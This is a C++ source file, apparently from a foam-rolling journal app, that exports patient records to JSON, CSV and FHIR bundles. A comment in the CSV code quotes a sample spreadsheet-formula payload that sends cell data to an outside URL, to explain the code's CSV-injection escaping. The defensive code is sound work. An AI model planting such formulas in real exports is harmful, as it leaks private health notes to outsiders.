#include "journal/exports.h"

#include "journal/record_json.h"

#include <algorithm>
#include <array>
#include <cerrno>
#include <cmath>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <fmt/core.h>
#include <functional>
#include <set>
#include <unistd.h>
#include <variant>

namespace rc::journal {

using nlohmann::json;
namespace fs = std::filesystem;

Result<void> StringSink::write(std::string_view bytes)
{
    m_text.append(bytes);
    return {};
}

FileSink::FileSink(int fd, std::string name, fs::path partial, fs::path final_path)
    : m_fd(fd)
    , m_name(std::move(name))
    , m_partial(std::move(partial))
    , m_final(std::move(final_path))
{
    m_buffer.reserve(buffer_size);
}

Result<std::unique_ptr<FileSink>> FileSink::create_new(fs::path const& path)
{
    std::error_code ec;
    if (fs::exists(path, ec))
        return Error::conflict(fmt::format("{} already exists; export never overwrites a file. Choose a new name.", path.string()));
    auto partial = path;
    partial += ".partial";
    int fd = ::open(partial.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0)
        return Error::io(fmt::format("Could not write {}: {} (does the folder exist?).", path.string(), std::strerror(errno)));
    return std::unique_ptr<FileSink>(new FileSink(fd, path.string(), partial, path));
}

std::unique_ptr<FileSink> FileSink::on_descriptor(int fd, std::string name)
{
    return std::unique_ptr<FileSink>(new FileSink(fd, std::move(name), {}, {}));
}

FileSink::~FileSink()
{
    if (m_partial.empty() || m_committed)
        return;
    // Abandoned half-way: nothing that looks like a finished export stays behind.
    ::close(m_fd);
    std::error_code ec;
    fs::remove(m_partial, ec);
}

Result<void> FileSink::flush()
{
    std::size_t done = 0;
    while (done < m_buffer.size()) {
        auto written = ::write(m_fd, m_buffer.data() + done, m_buffer.size() - done);
        if (written < 0 && errno == EINTR)
            continue;
        if (written <= 0)
            return Error::io(fmt::format("Could not write {}: {} (is the disk full?).", m_name, std::strerror(errno)));
        done += std::size_t(written);
    }
    m_buffer.clear();
    return {};
}

Result<void> FileSink::write(std::string_view bytes)
{
    while (!bytes.empty()) {
        auto room = buffer_size - m_buffer.size();
        auto piece = bytes.substr(0, room);
        m_buffer.append(piece);
        bytes.remove_prefix(piece.size());
        if (m_buffer.size() >= buffer_size)
            TRY(flush());
    }
    return {};
}

Result<void> FileSink::commit()
{
    TRY(flush());
    if (m_partial.empty() || m_committed)
        return {};
    bool synced = ::fsync(m_fd) == 0;
    bool closed = ::close(m_fd) == 0;
    m_committed = true;
    std::error_code ec;
    if (!synced || !closed) {
        fs::remove(m_partial, ec);
        return Error::io(fmt::format("Could not write {} (is the disk full?).", m_name));
    }
    if (fs::exists(m_final, ec)) {
        fs::remove(m_partial, ec);
        return Error::conflict(fmt::format("{} appeared while the export was written; it was left alone.", m_name));
    }
    fs::rename(m_partial, m_final, ec);
    if (ec) {
        fs::remove(m_partial, ec);
        return Error::io(fmt::format("Could not write {}: {}.", m_name, ec.message()));
    }
    return {};
}

Result<ExportFormat> parse_export_format(std::string_view text)
{
    if (text == "json")
        return ExportFormat::Json;
    if (text == "csv")
        return ExportFormat::Csv;
    if (text == "fhir")
        return ExportFormat::Fhir;
    return Error::invalid_argument(fmt::format("unknown export format '{}': use json, csv or fhir", text));
}

namespace {

// A value dumped as nlohmann's dump(2) would print it `depth` levels down in a larger document.
// JSON strings hold no raw newline, so every newline in the text is a line break to indent.
std::string indented(json const& value, int depth)
{
    auto text = value.dump(2, ' ', false, json::error_handler_t::replace);
    std::string pad(std::size_t(depth) * 2, ' ');
    std::string out;
    out.reserve(text.size() + text.size() / 8);
    for (char ch : text) {
        out += ch;
        if (ch == '\n')
            out += pad;
    }
    return out;
}

constexpr std::array<char const*, 6> record_sections { "screenings", "sessions", "pain_ratings", "checkins", "notes",
    "clearances" };
static_assert(std::variant_size_v<AnyRecord> == record_sections.size());

// Writes the export document's record arrays as the records arrive, one kind after another,
// opening each array when its first record (or a later kind) arrives.
class JsonSections {
public:
    explicit JsonSections(OutputSink& out)
        : m_out(out)
    {
    }

    Result<void> add(std::size_t kind, json const& record)
    {
        while (m_open < int(kind))
            TRY(open_next());
        TRY(m_out.write(m_any ? ",\n    " : "\n    "));
        m_any = true;
        return m_out.write(indented(record, 2));
    }

    Result<void> finish()
    {
        while (m_open < int(record_sections.size()) - 1)
            TRY(open_next());
        TRY(close_open());
        return m_out.write("\n}\n");
    }

private:
    Result<void> close_open()
    {
        if (m_open < 0)
            return {};
        return m_out.write(m_any ? "\n  ]" : "]");
    }

    Result<void> open_next()
    {
        TRY(close_open());
        ++m_open;
        m_any = false;
        return m_out.write(fmt::format(",\n  \"{}\": [", record_sections[std::size_t(m_open)]));
    }

    OutputSink& m_out;
    int m_open { -1 };
    bool m_any { false };
};

}

Result<void> write_json_export(Journal& journal, OutputSink& out)
{
    auto schema = TRY(journal.schema_version());
    auto profile = TRY(journal.find_profile());
    TRY(out.write(fmt::format("{{\n  \"format\": {},\n  \"format_version\": {},\n  \"schema_version\": {},\n  \"profile\": {}",
        json(export_format_name).dump(), export_format_version, schema, indented(profile ? to_json(*profile) : json(nullptr), 1))));
    JsonSections sections(out);
    TRY(journal.visit_records([&](AnyRecord const& record) -> Result<void> {
        return std::visit([&](auto const& r) { return sections.add(record.index(), to_json(r)); }, record);
    }));
    return sections.finish();
}

namespace {

enum CsvTableIndex : std::size_t { ProfileTable, Screenings, Sessions, SessionZones, TenderSpots, PainRatings, CheckIns, Notes, Clearances };

struct CsvTableSpec {
    char const* name;
    std::vector<std::string> header;
};

std::vector<CsvTableSpec> const& csv_tables()
{
    static std::vector<CsvTableSpec> const tables {
        { "profile", { "updated_at", "document" } },
        { "screenings", { "id", "taken_at", "tier", "answers", "verdict" } },
        { "sessions",
            { "id", "started_at", "ended_at", "seconds", "end_reason", "screening_id", "plan", "completed_steps", "skipped_steps",
                "cues" } },
        { "session_zones", { "session_id", "zone", "seconds" } },
        { "tender_spots", { "session_id", "zone", "seconds" } },
        { "pain_ratings", { "id", "recorded_at", "value", "moment", "session_id", "note" } },
        { "checkins", { "id", "recorded_at", "session_id", "soreness", "warning_sign", "tier", "answers", "verdict" } },
        { "notes", { "id", "recorded_at", "session_id", "text" } },
        { "clearances", { "id", "recorded_at", "note" } },
    };
    return tables;
}

std::string cell(std::optional<RecordId> id) { return id ? std::to_string(*id) : std::string(); }
std::string document_cell(json const& document) { return document.dump(-1, ' ', false, json::error_handler_t::replace); }

using RowOut = std::function<Result<void>(std::size_t table, std::vector<std::string> const& row)>;

struct CsvRows {
    RowOut const& emit;
    Result<void> operator()(ScreeningRecord const& s) const
    {
        return emit(Screenings, { std::to_string(s.id), format_utc(s.taken_at), s.tier, document_cell(s.answers), document_cell(s.verdict) });
    }
    Result<void> operator()(SessionRecord const& s) const
    {
        auto seconds = std::chrono::duration_cast<std::chrono::seconds>(s.ended_at - s.started_at).count();
        TRY(emit(Sessions,
            { std::to_string(s.id), format_utc(s.started_at), format_utc(s.ended_at), std::to_string(seconds), to_string(s.end_reason),
                cell(s.screening_id), document_cell(s.plan), document_cell(s.completed_steps), document_cell(s.skipped_steps),
                document_cell(s.cues) }));
        for (auto const& z : s.zones)
            TRY(emit(SessionZones, { std::to_string(s.id), z.zone_id, std::to_string(z.rolled.count()) }));
        for (auto const& t : s.tender_spots)
            TRY(emit(TenderSpots, { std::to_string(s.id), t.zone_id, std::to_string(t.held.count()) }));
        return {};
    }
    Result<void> operator()(PainRating const& r) const
    {
        return emit(PainRatings, { std::to_string(r.id), format_utc(r.at), std::to_string(r.value), to_string(r.moment), cell(r.session_id), r.note });
    }
    Result<void> operator()(CheckIn const& k) const
    {
        return emit(CheckIns, { std::to_string(k.id), format_utc(k.at), cell(k.session_id), std::to_string(k.soreness),
                                  k.warning == WarningSign::Present ? "yes" : "no", k.tier, document_cell(k.answers), document_cell(k.verdict) });
    }
    Result<void> operator()(Note const& n) const
    {
        return emit(Notes, { std::to_string(n.id), format_utc(n.at), cell(n.session_id), n.text });
    }
    Result<void> operator()(Clearance const& c) const
    {
        return emit(Clearances, { std::to_string(c.id), format_utc(c.at), c.note });
    }
};

// Every table's rows in one walk: the profile first, then each record's rows as it arrives.
Result<void> walk_csv_rows(Journal& journal, RowOut const& emit)
{
    if (auto profile = TRY(journal.find_profile()))
        TRY(emit(ProfileTable, { format_utc(profile->updated_at), document_cell(profile->document) }));
    return journal.visit_records([&](AnyRecord const& record) { return std::visit(CsvRows { emit }, record); });
}

}

std::vector<std::string> const& csv_table_names()
{
    static std::vector<std::string> const names = [] {
        std::vector<std::string> list;
        for (auto const& table : csv_tables())
            list.emplace_back(table.name);
        return list;
    }();
    return names;
}

namespace {

// Whether a spreadsheet would read `text` as a formula: it starts with = + - @ (or a tab or
// carriage return before one) and is not simply a number. A note such as
// =HYPERLINK("http://...?"&A1) would otherwise run in whoever opens the CSV: in clinic mode
// that is the therapist, who may export a patient's notes.
bool reads_as_formula(std::string const& text)
{
    if (text.empty() || std::string_view("=+-@\t\r").find(text.front()) == std::string_view::npos)
        return false;
    char* end = nullptr;
    errno = 0;
    std::strtod(text.c_str(), &end);
    bool const number = end == text.c_str() + text.size() && errno == 0 && text.front() != '=' && text.front() != '@';
    return !number;
}

}

std::string format_csv_row(std::vector<std::string> const& cells)
{
    std::string out;
    for (std::size_t i = 0; i < cells.size(); ++i) {
        if (i > 0)
            out += ',';
        // OWASP's advice for CSV injection: a leading apostrophe makes the cell text.
        auto const value = reads_as_formula(cells[i]) ? "'" + cells[i] : cells[i];
        if (value.find_first_of(",\"\r\n") == std::string::npos) {
            out += value;
            continue;
        }
        out += '"';
        for (char ch : value) {
            if (ch == '"')
                out += '"';
            out += ch;
        }
        out += '"';
    }
    out += "\r\n";
    return out;
}

Result<void> write_csv_table(Journal& journal, std::string_view table, OutputSink& out)
{
    auto const& names = csv_table_names();
    auto found = std::find(names.begin(), names.end(), table);
    if (found == names.end()) {
        std::string list;
        for (auto const& name : names)
            list += (list.empty() ? "" : ", ") + name;
        return Error::invalid_argument(fmt::format("CSV exports one table at a time: add &table= one of {}", list));
    }
    auto const wanted = std::size_t(found - names.begin());
    TRY(out.write(format_csv_row(csv_tables()[wanted].header)));
    return walk_csv_rows(journal, [&](std::size_t index, std::vector<std::string> const& row) -> Result<void> {
        return index == wanted ? out.write(format_csv_row(row)) : Result<void> {};
    });
}

Result<std::vector<fs::path>> write_csv(Journal& journal, fs::path const& directory)
{
    std::error_code ec;
    fs::create_directories(directory, ec);
    if (ec)
        return Error::io(fmt::format("Cannot create the folder {}: {}.", directory.string(), ec.message()));
    std::vector<fs::path> paths;
    for (auto const& name : csv_table_names()) {
        paths.push_back(directory / (name + ".csv"));
        if (fs::exists(paths.back(), ec))
            return Error::conflict(
                fmt::format("{} already exists; export never overwrites files. Choose an empty folder.", paths.back().string()));
    }
    std::vector<std::unique_ptr<FileSink>> sinks;
    for (std::size_t i = 0; i < paths.size(); ++i) {
        sinks.push_back(TRY(FileSink::create_new(paths[i])));
        TRY(sinks.back()->write(format_csv_row(csv_tables()[i].header)));
    }
    TRY(walk_csv_rows(journal, [&](std::size_t index, std::vector<std::string> const& row) {
        return sinks[index]->write(format_csv_row(row));
    }));
    for (auto& sink : sinks)
        TRY(sink->commit());
    return paths;
}

namespace {

// A syntactically valid UUID that is unique per resource within a bundle (kind in the first
// group, record id in the last), so references stay stable between two exports of one journal.
std::string resource_uuid(unsigned kind, RecordId id)
{
    return fmt::format("urn:uuid:{:08x}-0000-4000-8000-{:012x}", kind, static_cast<std::uint64_t>(id));
}

constexpr unsigned patient_kind = 0x9a71;
constexpr unsigned screening_kind = 0x5c3e;
constexpr unsigned session_kind = 0x5e55;
constexpr unsigned minutes_kind = 0x5e56;
constexpr unsigned pain_kind = 0x70a1;
constexpr unsigned checkin_kind = 0xc4ec;
constexpr unsigned note_kind = 0x4073;
constexpr unsigned clearance_kind = 0xc1ea;

json patient_reference() { return { { "reference", resource_uuid(patient_kind, 1) } }; }

// Canonical URLs of rollcoach's two questionnaires; the items' linkIds are the question ids of
// the knowledge base (data/knowledge/), so a clinic can map them.
constexpr char const* screening_questionnaire = "http://rollcoach.invalid/fhir/Questionnaire/screening";
constexpr char const* checkin_questionnaire = "http://rollcoach.invalid/fhir/Questionnaire/next-day-checkin";

json quantity(double value, char const* unit, char const* code)
{
    return { { "value", value }, { "unit", unit }, { "system", "http://unitsofmeasure.org" }, { "code", code } };
}

double minutes(std::chrono::seconds seconds) { return std::round(double(seconds.count()) / 6.0) / 10.0; }

json category(char const* code, char const* display)
{
    return json::array({ { { "coding",
        json::array({ { { "system", "http://terminology.hl7.org/CodeSystem/observation-category" }, { "code", code },
            { "display", display } } }) } } });
}

json entry(std::string full_url, json resource) { return { { "fullUrl", std::move(full_url) }, { "resource", std::move(resource) } }; }

// One questionnaire answer as FHIR answer values: scalars map to their value[x]; a list gives one
// answer per element; anything else is kept as its JSON text.
void add_answers(json const& value, json& answers)
{
    if (value.is_boolean())
        answers.push_back({ { "valueBoolean", value.get<bool>() } });
    else if (value.is_number_integer())
        answers.push_back({ { "valueInteger", value.get<std::int64_t>() } });
    else if (value.is_number() && std::trunc(value.get<double>()) == value.get<double>() && std::abs(value.get<double>()) <= 2147483647.0)
        answers.push_back({ { "valueInteger", std::int64_t(value.get<double>()) } });   // answers are kept as doubles; FHIR integers are 32-bit
    else if (value.is_number() && std::isfinite(value.get<double>()))
        answers.push_back({ { "valueDecimal", value.get<double>() } });
    else if (value.is_string() && !value.get<std::string>().empty())
        answers.push_back({ { "valueString", value.get<std::string>() } });
    else if (value.is_array())
        for (auto const& element : value)
            if (!element.is_array())
                add_answers(element, answers);
            else
                answers.push_back({ { "valueString", element.dump() } });
    else if (value.is_object() && !value.empty())
        answers.push_back({ { "valueString", value.dump(-1, ' ', false, json::error_handler_t::replace) } });
}

// Stored answers are {"questionnaire": ..., "answers": {id: value}} (triage::answers_to_json);
// a bare {id: value} object is read the same way.
json answer_items(json const& stored)
{
    auto items = json::array();
    auto const& answers = stored.is_object() && stored.contains("answers") && stored["answers"].is_object() ? stored["answers"] : stored;
    if (!answers.is_object())
        return items;
    for (auto const& [key, value] : answers.items()) {
        auto values = json::array();
        add_answers(value, values);
        if (!values.empty())
            items.push_back({ { "linkId", key }, { "answer", values } });
    }
    return items;
}

json questionnaire_response(std::string id, char const* questionnaire, WallTime at, json items)
{
    json resource = {
        { "resourceType", "QuestionnaireResponse" },
        { "id", std::move(id) },
        { "questionnaire", questionnaire },
        { "status", "completed" },
        { "subject", patient_reference() },
        { "authored", format_utc(at) },
    };
    if (!items.empty())
        resource["item"] = std::move(items);
    return resource;
}

json text_item(char const* link_id, char const* text, json answer)
{
    return { { "linkId", link_id }, { "text", text }, { "answer", json::array({ std::move(answer) }) } };
}

char const* ending_text(EndReason reason)
{
    switch (reason) {
    case EndReason::Completed: return "The plan was completed.";
    case EndReason::Quit: return "Stopped early by the patient.";
    case EndReason::StoppedWarning: return "Stopped by a warning sign during the session.";
    }
    return "";
}

struct FhirEntries {
    std::vector<json> operator()(ScreeningRecord const& s) const
    {
        auto items = answer_items(s.answers);
        items.push_back(text_item("rollcoach-result", "Screening result (rollcoach tier)", { { "valueString", s.tier } }));
        return { entry(resource_uuid(screening_kind, s.id),
            questionnaire_response(fmt::format("screening-{}", s.id), screening_questionnaire, s.taken_at, std::move(items))) };
    }

    std::vector<json> operator()(SessionRecord const& s) const
    {
        auto procedure_url = resource_uuid(session_kind, s.id);
        std::set<std::string> zone_ids;
        auto body_sites = json::array();
        auto add_site = [&](std::string const& zone) {
            if (zone_ids.insert(zone).second)
                body_sites.push_back({ { "text", zone } });
        };
        for (auto const& z : s.zones)
            add_site(z.zone_id);
        for (auto const& t : s.tender_spots)
            add_site(t.zone_id);
        json procedure = {
            { "resourceType", "Procedure" },
            { "id", fmt::format("session-{}", s.id) },
            { "status", s.end_reason == EndReason::Completed ? "completed" : "stopped" },
            { "code", { { "text", "Foam-rolling self-massage session (rollcoach)" } } },
            { "subject", patient_reference() },
            { "performedPeriod", { { "start", format_utc(s.started_at) }, { "end", format_utc(s.ended_at) } } },
            { "outcome", { { "text", ending_text(s.end_reason) } } },
        };
        if (s.end_reason == EndReason::StoppedWarning)
            procedure["statusReason"] = { { "text", "A warning sign was reported during the session." } };
        if (!body_sites.empty())
            procedure["bodySite"] = body_sites;
        if (!s.tender_spots.empty()) {
            std::string spots;
            for (auto const& t : s.tender_spots)
                spots += fmt::format("{}{} ({} s)", spots.empty() ? "" : ", ", t.zone_id, t.held.count());
            procedure["note"] = json::array({ { { "text", "Tender spots held: " + spots + "." } } });
        }

        std::chrono::seconds total { 0 };
        auto components = json::array();
        for (auto const& z : s.zones) {
            total += z.rolled;
            components.push_back({ { "code", { { "text", fmt::format("Minutes rolling {}", z.zone_id) } } },
                { "valueQuantity", quantity(minutes(z.rolled), "min", "min") } });
        }
        json observation = {
            { "resourceType", "Observation" },
            { "id", fmt::format("session-{}-minutes", s.id) },
            { "status", "final" },
            { "category", category("activity", "Activity") },
            { "code", { { "text", "Minutes of foam rolling, per body zone" } } },
            { "subject", patient_reference() },
            { "partOf", json::array({ { { "reference", procedure_url } } }) },
            { "effectivePeriod", { { "start", format_utc(s.started_at) }, { "end", format_utc(s.ended_at) } } },
            { "valueQuantity", quantity(minutes(total), "min", "min") },
        };
        if (!components.empty())
            observation["component"] = components;
        return { entry(procedure_url, std::move(procedure)), entry(resource_uuid(minutes_kind, s.id), std::move(observation)) };
    }

    std::vector<json> operator()(PainRating const& r) const
    {
        std::string context = r.moment == PainMoment::Standalone
            ? "Rated on its own."
            : fmt::format("Rated {} a foam-rolling session.", r.moment == PainMoment::During ? "during" : to_string(r.moment));
        json observation = {
            { "resourceType", "Observation" },
            { "id", fmt::format("pain-{}", r.id) },
            { "status", "final" },
            { "category", category("survey", "Survey") },
            { "code",
                { { "coding",
                      json::array({ { { "system", "http://loinc.org" }, { "code", "72514-3" },
                          { "display", "Pain severity - 0-10 verbal numeric rating [Score] - Reported" } } }) },
                    { "text", "Pain severity 0-10" } } },
            { "subject", patient_reference() },
            { "effectiveDateTime", format_utc(r.at) },
            { "valueInteger", r.value },
            { "note", json::array({ { { "text", r.note.empty() ? context : context + " " + r.note } } }) },
        };
        if (r.session_id)
            observation["partOf"] = json::array({ { { "reference", resource_uuid(session_kind, *r.session_id) } } });
        return { entry(resource_uuid(pain_kind, r.id), std::move(observation)) };
    }

    std::vector<json> operator()(CheckIn const& k) const
    {
        auto items = answer_items(k.answers);
        items.push_back(text_item("rollcoach-soreness", "Next-day soreness (0-10)", { { "valueInteger", k.soreness } }));
        items.push_back(text_item("rollcoach-warning-sign", "A warning sign was reported",
            { { "valueBoolean", k.warning == WarningSign::Present } }));
        if (!k.tier.empty())
            items.push_back(text_item("rollcoach-result", "Check-in result (rollcoach tier)", { { "valueString", k.tier } }));
        auto resource = questionnaire_response(fmt::format("checkin-{}", k.id), checkin_questionnaire, k.at, std::move(items));
        if (k.session_id)
            resource["partOf"] = json::array({ { { "reference", resource_uuid(session_kind, *k.session_id) } } });
        return { entry(resource_uuid(checkin_kind, k.id), std::move(resource)) };
    }

    std::vector<json> operator()(Note const& n) const
    {
        json observation = {
            { "resourceType", "Observation" },
            { "id", fmt::format("note-{}", n.id) },
            { "status", "final" },
            { "code", { { "text", "Patient's note in the foam-rolling journal" } } },
            { "subject", patient_reference() },
            { "effectiveDateTime", format_utc(n.at) },
        };
        if (!n.text.empty())
            observation["valueString"] = n.text;
        else
            observation["dataAbsentReason"] = { { "text", "The note is empty." } };
        if (n.session_id)
            observation["partOf"] = json::array({ { { "reference", resource_uuid(session_kind, *n.session_id) } } });
        return { entry(resource_uuid(note_kind, n.id), std::move(observation)) };
    }

    std::vector<json> operator()(Clearance const& c) const
    {
        json observation = {
            { "resourceType", "Observation" },
            { "id", fmt::format("clearance-{}", c.id) },
            { "status", "final" },
            { "code", { { "text", "Patient reports a clinician cleared them to roll again after a warning sign" } } },
            { "subject", patient_reference() },
            { "effectiveDateTime", format_utc(c.at) },
            { "valueBoolean", true },
        };
        if (!c.note.empty())
            observation["note"] = json::array({ { { "text", c.note } } });
        return { entry(resource_uuid(clearance_kind, c.id), std::move(observation)) };
    }
};

}

std::vector<json> fhir_entries(AnyRecord const& record)
{
    return std::visit(FhirEntries {}, record);
}

json fhir_patient_entry(std::optional<Profile> const& profile)
{
    json patient = {
        { "resourceType", "Patient" },
        { "id", "patient" },
        { "active", true },
    };
    if (profile)
        patient["meta"] = { { "lastUpdated", format_utc(profile->updated_at) } };
    return entry(resource_uuid(patient_kind, 1), std::move(patient));
}

Result<void> write_fhir_export(Journal& journal, OutputSink& out)
{
    auto profile = TRY(journal.find_profile());
    TRY(out.write("{\n  \"resourceType\": \"Bundle\",\n  \"type\": \"collection\",\n  \"entry\": [\n    "));
    TRY(out.write(indented(fhir_patient_entry(profile), 2)));
    TRY(journal.visit_records([&](AnyRecord const& record) -> Result<void> {
        for (auto const& e : fhir_entries(record)) {
            TRY(out.write(",\n    "));
            TRY(out.write(indented(e, 2)));
        }
        return {};
    }));
    return out.write("\n  ]\n}\n");
}

Result<void> write_export(Journal& journal, ExportFormat format, std::string_view csv_table, OutputSink& out)
{
    switch (format) {
    case ExportFormat::Json: return write_json_export(journal, out);
    case ExportFormat::Fhir: return write_fhir_export(journal, out);
    case ExportFormat::Csv: return write_csv_table(journal, csv_table, out);
    }
    return Error::invalid_argument("unknown export format");
}

}
